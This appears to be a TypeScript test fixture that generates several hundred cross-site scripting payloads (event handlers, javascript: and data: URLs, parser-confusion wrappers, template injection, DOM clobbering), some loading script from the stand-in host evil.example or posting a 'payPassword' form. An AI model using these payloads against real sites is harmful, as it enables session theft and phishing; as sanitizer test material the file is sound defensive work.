/** The host that every payload tries to reach. It does not exist. */
export const EVIL = 'evil.example';
/** The code that every payload tries to run. */
const RUN = 'window.__ran=1';
const SCRIPT = `//${EVIL}/x.js`;

type Family = readonly string[];

const events = [
  'onload',
  'onerror',
  'onfocus',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
  'onclick',
];
const elements = [
  ...[
    'img src=x',
    'svg',
    'video src=x',
    'audio src=x',
    'details open',
    'input autofocus',
    'iframe',
    'object data=x',
  ],
  ...[
    'embed src=x',
    'a href=# autofocus',
    'p tabindex=0',
    'math',
    'select autofocus',
    'button',
    'style',
    'body',
    'marquee',
  ],
];
/** The ways to write a handler into a tag. */
const written: readonly ((tag: string, event: string) => string)[] = [
  (tag, event) => `<${tag} ${event}=${RUN}>`,
  (tag, event) => `<${tag} ${event}="${RUN}">x</${tag.split(' ')[0] ?? ''}>`,
  (tag, event) => `<${tag.replace(' ', '/')}/${event}='${RUN}'/>`,
  (tag, event) => `<${tag.toUpperCase()}\n${event.toUpperCase()}\n=\n${RUN}>`,
  (tag, event) => `<${tag}\t${event}=&#119;indow.__ran&equals;1>`,
  (tag, event) => `<${tag} ${event}=${RUN}//`,
];
const handlers: Family = elements.flatMap((tag) =>
  events.flatMap((event) => written.map((write) => write(tag, event))),
);

const schemes = [
  ...[
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `\u0001javascript:${RUN}`,
    `&#106;avascript:${RUN}`,
  ],
  ...[
    `&#x6A;avascript&colon;${RUN}`,
    `javascript&NewLine;:${RUN}`,
    `vbscript:${RUN}`,
    `javascript:/*--></title>*/${RUN}`,
  ],
  ...[
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  ],
  ...[
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
    `//${EVIL}/x`,
    `/\\${EVIL}/x`,
  ],
  ...[`https://${EVIL}/x`, `https:/${EVIL}/x`, `blob:https://${EVIL}/x`, `filesystem:https://${EVIL}/x`],
];
const addressed: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">go</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><input name=payPassword><button>Confirm</button></form>`,
  (address) => `<button formaction="${address}">go</button>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text>go</text></a><use href="${address}"/></svg>`,
  (address) => `<math href="${address}"><mi>go</mi></math>`,
  (address) => `<link rel=stylesheet href="${address}"><link rel=prefetch href="${address}">`,
  (address) => `<base href="${address}"><script src=x></script>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) =>
    `<video poster="${address}"><source src="${address}"></video><input type=image src="${address}">`,
  (address) => `<p style="background:url(${address})">x</p>`,
  (address) => `<style>@import '${address}';*{background:url(${address})}</style>`,
  (address) => `[go](${address}) ![x](${address})`,
];
const addresses: Family = schemes.flatMap((scheme) => addressed.map((write) => write(scheme)));

const inner = `<img src=x onerror=${RUN}>`;
/** Places in which a second parser reads what the first took for something else. */
const wrapped: Family = [
  ...[`<noscript><p title="</noscript>${inner}">`, `<math><mtext><table><mglyph><style><!--</style>${inner}`],
  ...[`<svg><style><img title="</style>${inner}">`, `<svg></p><style><a id="</style>${inner}">`],
  ...[`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${inner}">`],
  ...[
    `<template>${inner}</template>`,
    `<xmp><p title="</xmp>${inner}">`,
    `<noembed><i title="</noembed>${inner}">`,
  ],
  ...[
    `<svg><foreignObject>${inner}</foreignObject></svg>`,
    `<svg><![CDATA[>${inner}]]></svg>`,
    `<!--><p>${inner}-->`,
  ],
  ...[
    `<select><option><style></option></select>${inner}</style>`,
    `<table><td><style></table>${inner}</style>`,
  ],
  ...[
    `<title>${inner}</title>`,
    `</title>${inner}`,
    `</textarea>${inner}`,
    `</style>${inner}`,
    `</script>${inner}`,
  ],
  ...[
    `]]>${inner}`,
    `-->${inner}`,
    `">${inner}`,
    `'>${inner}`,
    `" onmouseover="${RUN}" x="`,
    `' onfocus='${RUN}' autofocus x='`,
  ],
  ...[
    `&lt;img src=x onerror=${RUN}&gt;`,
    `&amp;lt;script&amp;gt;${RUN}`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  ],
  ...[
    `<script>${RUN}</script>`,
    `<SCRIPT SRC=${SCRIPT}></SCRIPT>`,
    `<script/x>${RUN}</script>`,
    `<script\n>${RUN}</script\n>`,
  ],
  ...[
    `<script type=module>import('${SCRIPT}')</script>`,
    `<svg><script>${RUN}</script></svg>`,
    `<iframe srcdoc="${inner}">`,
  ],
  ...[`<a id=__proto__><a name=x id=__proto__>`, `<form id=documentElement><input name=attributes>`],
  ...[
    `{{constructor.constructor('${RUN}')()}}`,
    `\${${RUN}}`,
    `$t(${RUN})`,
    `<%= ${RUN} %>`,
    `\u2028${RUN}//`,
  ],
  ...[
    `<p style="x:expression(${RUN})">x`,
    `<p style="position:fixed;inset:0;z-index:9">x`,
    `<ſcript>${RUN}</ſcript>`,
  ],
];

/** The least number of payloads. */
export const COUNT = 500;

/** Evenly spaced members of a family, so that no kind is left out. */
const some = (family: Family, count: number): Family =>
  Array.from({ length: count }, (_, at) => family[Math.floor((at * family.length) / count)] ?? '');

export const payloads: Family = [
  ...wrapped,
  ...some(addresses, Math.floor((COUNT - wrapped.length) / 2)),
  ...some(handlers, Math.ceil((COUNT - wrapped.length) / 2)),
];

/** Addresses that run something where an address is opened. */
export const addressPayloads: Family = schemes.filter(
  (scheme) => !scheme.includes(EVIL) && !scheme.includes('&'),
);
